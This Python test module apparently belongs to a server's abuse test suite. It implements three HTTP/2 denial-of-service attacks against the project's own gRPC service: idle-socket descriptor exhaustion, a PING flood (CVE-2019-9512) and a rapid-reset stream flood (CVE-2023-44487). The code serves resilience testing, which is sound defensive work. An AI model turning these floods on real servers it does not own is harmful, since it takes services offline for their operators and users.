"""Connections that cost the server more than the client, before any call is made."""

from __future__ import annotations

import asyncio
from collections.abc import Callable

from tests import http2
from tests.abuse.attack import SERVICE, Target, attack
from tests.http2 import RawConnection

_SILENT = 1_500  # more than the descriptors that a shell gives by default, 1,024
_AT_ONCE = 4  # connections of a flood
_FRAMES = 500  # in a write
_PATH = f"/{SERVICE}/GetModel"


async def _flood(target: Target, what: str, frames: Callable[[RawConnection], list[bytes]]) -> None:
    """Sends frames as fast as the server takes them, and connects again when it closes."""

    async def send() -> None:
        async with target.raw() as connection:
            while target.left_s > 0 and not connection.closed:
                each = frames(connection)
                await connection.send(*each)
                target.gains.sent[what] += len(each)
                await asyncio.sleep(0)

    await target.flood(send, _AT_ONCE)


@attack()
async def silent_sockets(target: Target) -> None:
    """1,500 connections that never say a word, each a descriptor."""
    await target.hold_connections(_SILENT, preface=False)


@attack()
async def ping_flood(target: Target) -> None:
    """PINGs, each to be answered (CVE-2019-9512)."""
    await _flood(target, "pings", lambda _: [http2.frame(http2.PING, bytes(8))] * _FRAMES)


@attack()
async def rapid_reset(target: Target) -> None:
    """Calls that are reset as soon as they are made (CVE-2023-44487)."""

    def frames(connection: RawConnection) -> list[bytes]:
        frames = []
        for _ in range(100):
            stream, headers = connection.call(_PATH, target.metadata)
            body = http2.frame(http2.DATA, http2.message(b""), http2.END_STREAM, stream)
            reset = http2.frame(http2.RST_STREAM, http2.CANCEL, stream=stream)
            frames.append(headers + body + reset)
        return frames

    await _flood(target, "calls reset", frames)
